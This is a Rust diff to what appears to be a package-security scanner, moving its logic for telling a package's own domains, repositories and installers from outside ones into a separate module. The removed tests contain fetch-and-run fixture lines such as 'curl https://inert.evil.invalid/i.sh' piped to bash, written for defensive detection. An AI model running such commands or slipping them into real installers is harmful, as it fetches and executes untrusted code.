@@ -2,12 +2,14 @@
 //! ([`chains::CHAINS`]); this file only matches them.
 
 pub mod chains;
+mod own;
 
 use std::collections::{HashMap, HashSet};
 
-use crate::model::{Capability, Evidence, FactKind, FileKind, Finding, RuleOrigin, Severity, Stage, Stages};
+use crate::model::{Evidence, FactKind, FileKind, Finding, RuleOrigin, Severity, Stage, Stages};
 use crate::package::{Member, Package, Placed, Role};
 use chains::{CHAINS, Chain, Followed, Need, Scope};
+use own::Own;
 
 /// A chain that was found, as a finding at the member where it begins.
 #[derive(Debug, Clone)]
@@ -106,9 +108,7 @@ fn units<'a>(package: &'a Package<'a>, placed: &'a [Placed]) -> Vec<(usize, Vec<
     let mut units: HashMap<usize, Vec<Link<'a>>> = HashMap::new();
     let called = Called::of(package);
     let programs = programs(package);
-    let names = own_names(package);
-    let homes = package.npm.map(|n| &n.homes).or(package.python.map(|p| &p.homes));
-    let repositories: Vec<String> = homes.into_iter().flatten().filter_map(|h| repository_of(h)).collect();
+    let own = Own::of(package);
     for (index, member) in package.members.iter().enumerate() {
         let (host, at) = host_of(package, &by_way, index, member);
         for finding in &member.analysis.findings {
@@ -122,17 +122,15 @@ fn units<'a>(package: &'a Package<'a>, placed: &'a [Placed]) -> Vec<(usize, Vec<
             let is_asked_for = programs.contains(&host) && ASKED_FOR.contains(&finding.rule.id);
             let by_itself = called.runs(member, finding) && !is_asked_for;
             // Installers of parts of the package itself: what they do else is told elsewhere.
-            if installs_its_own(package, finding) {
+            if own.is_installed(finding) {
                 continue;
             }
-            let own = is_from_own_domain(&names, finding, member)
-                || is_from_repository(&repositories, by_itself, finding, hosts_of(member));
             units.entry(host).or_default().push(Link {
                 member: index,
                 finding,
                 offsets,
                 decoded: at.is_some(),
-                own,
+                own: own.is_meant(finding, member, by_itself),
                 by_itself,
             });
         }
@@ -150,150 +148,6 @@ fn units<'a>(package: &'a Package<'a>, placed: &'a [Placed]) -> Vec<(usize, Vec<
     let mut units: Vec<_> = units.into_iter().collect();
     units.sort_by_key(|(member, _)| *member);
     units
-}
-
-/// Shortest name of a package that a domain can be told by.
-const TELLING: usize = 5;
-
-/// The names of a package that its makers may have registered as a domain: scope and name, without separators.
-fn own_names(package: &Package<'_>) -> Vec<String> {
-    let name = match (package.npm, package.python) {
-        (Some(npm), _) => npm.name.as_str(),
-        (_, Some(python)) => python.name.as_str(),
-        _ => return Vec::new(),
-    };
-    let parts = name.trim_start_matches('@').split('/');
-    parts.map(crate::package::joined).filter(|part| part.len() >= TELLING).collect()
-}
-
-/// Whether all addresses that a download was followed from, and all others in its file, are at the domain with one of these
-/// names: `opencode-ai` and `opencode.ai`. An installer of its own program is a matter for a person; nobody else can put
-/// anything there.
-fn is_from_own_domain(names: &[String], finding: &Finding, member: &Member<'_>) -> bool {
-    is_from(names, finding, hosts_of(member))
-}
-
-fn hosts_of<'m>(member: &'m Member<'_>) -> impl Iterator<Item = &'m str> {
-    member.facts().filter_map(|fact| match fact {
-        FactKind::Has(Capability::Hosts, host) => Some(&**host),
-        _ => None,
-    })
-}
-
-/// Hosts of source code and of the programs that are built from it, by the label that all of theirs end with.
-const CODE_HOSTS: &[&str] = &["github.com", "githubusercontent.com", "gitlab.com", "codeberg.org", "bitbucket.org"];
-
-/// Makers of languages and their registries, whom installers name when something is missing.
-const VENDORS: &[&str] = &[
-    "rustup.rs",
-    "rust-lang.org",
-    "crates.io",
-    "nodejs.org",
-    "npmjs.com",
-    "npmjs.org",
-    "python.org",
-    "pypi.org",
-    "go.dev",
-];
-
-fn is_vendor(host: &str) -> bool {
-    is_below(host, VENDORS)
-}
-
-fn is_code_host(host: &str) -> bool {
-    is_below(host, CODE_HOSTS)
-}
-
-fn is_below(host: &str, domains: &[&str]) -> bool {
-    domains.iter().any(|h| host.strip_suffix(h).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
-}
-
-/// Owner and name of the repository that an address leads to (`owner/name/`, lower case).
-fn repository_of(address: &str) -> Option<String> {
-    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
-    let (host, path) = rest.split(['#', '?']).next()?.split_once('/')?;
-    let host = host.rsplit('@').next()?;
-    let path = if host.starts_with("api.") { path.strip_prefix("repos/")? } else { path };
-    let mut parts = path.split('/');
-    let (owner, name) = (parts.next()?, parts.next()?.trim_end_matches(".git"));
-    let known = !owner.is_empty() && !name.is_empty() && !name.contains('\u{2026}');
-    (known && is_code_host(host)).then(|| format!("{owner}/{name}/").to_ascii_lowercase())
-}
-
-/// Whether a download was followed from releases of a repository: the one that the package names as its own or, when
-/// somebody has to call for it, any. What a package says of itself it can do is a matter for a person, like an installer
-/// from its own domain. The file reaches no host but those of source code.
-fn is_from_repository<'h>(
-    own: &[String],
-    by_itself: bool,
-    finding: &'h Finding,
-    mut others: impl Iterator<Item = &'h str>,
-) -> bool {
-    let only_reports = finding.rule.id == "flow-calls-home";
-    if finding.rule.id != "flow-download-run" && !only_reports {
-        return false;
-    }
-    let mut addresses = finding.evidence.iter().flat_map(|e| e.note.split("://").skip(1)).peekable();
-    let is_theirs = |address: &str| {
-        let host = address.split(['/', '?', '#', ' ', '"', '\'', ':']).next().unwrap_or_default();
-        let repository = repository_of(address);
-        is_code_host(host)
-            && (repository.as_ref().is_some_and(|r| own.contains(r))
-                || !by_itself && !only_reports && repository.is_some())
-    };
-    // Of an address that is handed from function to function only the host is known, by the file that has no other.
-    let (has_address, mut has_host) = (addresses.peek().is_some(), false);
-    addresses.all(is_theirs)
-        && others.all(|host| {
-            has_host |= is_code_host(host);
-            is_code_host(host) || is_vendor(host) || is_own_machine(host)
-        })
-        && (has_address || has_host && !own.is_empty() && !only_reports)
-}
-
-/// Whether what the package has a manager install is of its own name (`@scope/tool-linux-x64`, for `@scope/tool`), or of its
-/// own version.
-fn installs_its_own(package: &Package<'_>, finding: &Finding) -> bool {
-    let Some(npm) = package.npm.filter(|_| finding.rule.id == "flow-installs-other") else { return false };
-    let mut words =
-        finding.evidence.iter().flat_map(|e| e.note.split("install").skip(1)).flat_map(str::split_whitespace);
-    // A name that was put together, of the package's own version.
-    let version = format!("\u{2026}@{}", npm.version);
-    let is_own = |word: &str| {
-        let word = word.trim_matches(['"', '\'']);
-        word == version && !npm.version.is_empty()
-            || word
-                .trim_matches(['"', '\''])
-                .strip_prefix(npm.name.as_str())
-                .is_some_and(|rest| rest.is_empty() || rest.starts_with(['-', '@']))
-    };
-    npm.name.len() >= TELLING && words.clone().any(is_own) && words.all(|w| w.starts_with('-') || is_own(w))
-}
-
-fn is_own_machine(host: &str) -> bool {
-    host == "localhost" || host.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_loopback() || ip.is_unspecified())
-}
-
-fn is_from<'h>(names: &[String], finding: &'h Finding, others: impl Iterator<Item = &'h str>) -> bool {
-    if names.is_empty() || !matches!(finding.rule.id, "flow-download-run" | "flow-remote-code" | "flow-identity-sent") {
-        return false;
-    }
-    let mut hosts = finding
-        .evidence
-        .iter()
-        .flat_map(|e| e.note.split("://").skip(1))
-        .map(|rest| rest.split(['/', '?', '#', ' ', '"', '\'', ':']).next().unwrap_or_default())
-        .peekable();
-    hosts.peek().is_some()
-        && hosts.chain(others.filter(|host| !is_own_machine(host))).all(|host| {
-            let labels: Vec<&str> = host.split('.').collect();
-            // The label that is registered: before `.ai`, and before `.co.uk`.
-            let at = labels.len().checked_sub(2).filter(|at| labels.get(*at).is_some_and(|l| l.len() > 3));
-            let label = at.or_else(|| labels.len().checked_sub(3)).and_then(|at| labels.get(at));
-            let whole = |n: &String| label.is_some_and(|l| crate::package::joined(l) == *n);
-            let joined = || labels.len() == 2 && names.contains(&crate::package::joined(host));
-            names.iter().any(whole) || joined()
-        })
 }
 
 /// What people start programs for, among other things. Nobody asks for secrets to be sent, or hidden code to be executed.
@@ -534,52 +388,6 @@ pub fn rules() -> impl Iterator<Item = &'static crate::model::Rule> {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn a_domain_is_one_s_own_by_the_label_that_is_registered() {
-        let rule = Rule { id: "flow-remote-code", ..CHAINS[0].rule.clone() };
-        let rule: &'static Rule = Box::leak(Box::new(rule));
-        let own = |notes: &[&str]| {
-            let mut finding = rule.finding(Evidence::note(""));
-            finding.evidence = notes.iter().map(|n| Evidence::note(*n)).collect();
-            is_from(&["inertai".to_owned(), "inert".to_owned()], &finding, std::iter::empty())
-                && !is_from(&["inertai".to_owned(), "inert".to_owned()], &finding, ["h.invalid"].into_iter())
-        };
-        assert!(own(&["curl https://inert.invalid/i.sh"]) && own(&["curl https://get.inert.co.uk/i.sh", "bash"]));
-        assert!(own(&["curl https://inert.ai/i.sh"]));
-        assert!(!own(&["curl https://inert.evil.invalid/i.sh"]) && !own(&["curl https://xinert.invalid/i.sh"]));
-        assert!(!own(&["curl https://inert.invalid/i", "wget https://other.invalid/i"]) && !own(&["curl"]));
-    }
-
-    #[test]
-    fn releases_of_the_declared_repository_are_one_s_own() {
-        let own: Vec<String> =
-            ["git+https://github.com/Inert/Tool.git#readme"].map(|h| repository_of(h).unwrap()).into();
-        assert_eq!(own, ["inert/tool/"]);
-        let met = |id: &'static str, notes: &[&str], by_itself: bool, others: &[&str]| {
-            let rule: &'static Rule = Box::leak(Box::new(Rule { id, ..CHAINS[0].rule.clone() }));
-            let mut finding = rule.finding(Evidence::note(""));
-            finding.evidence = notes.iter().map(|n| Evidence::note(*n)).collect();
-            is_from_repository(&own, by_itself, &finding, others.iter().copied())
-        };
-        let release = "https.get https://github.com/inert/tool/releases/download/v…/tool.zip";
-        let of_others = "https.get https://api.github.com/repos/other/tool/releases/latest";
-        assert!(met("flow-download-run", &["starts it", release], true, &["github.com", "127.0.0.1"]));
-        assert!(met("flow-calls-home", &[release], true, &[]));
-        // Of another project only when somebody calls for it, and never with code that is executed or another host at hand.
-        assert!(
-            !met("flow-download-run", &[of_others], true, &[]) && met("flow-download-run", &[of_others], false, &[])
-        );
-        assert!(!met("flow-download-run", &[release, of_others], true, &[]));
-        assert!(!met("flow-calls-home", &[of_others], false, &[]) && !met("flow-remote-code", &[release], false, &[]));
-        assert!(met("flow-download-run", &["x"], true, &["github.com"]));
-        assert!(!met("flow-download-run", &["x"], true, &["github.com", "h.invalid"]));
-        assert!(
-            !met("flow-download-run", &[release], true, &["h.invalid"]) && !met("flow-download-run", &["x"], true, &[])
-        );
-        assert!(!met("flow-download-run", &["https://github.com.evil.invalid/inert/tool/x"], true, &[]));
-        assert!(!met("flow-download-run", &["https://h.invalid/github.com/inert/tool/x"], true, &[]));
-    }
 
     #[test]
     fn one_act_is_one_sign_however_many_see_it() {
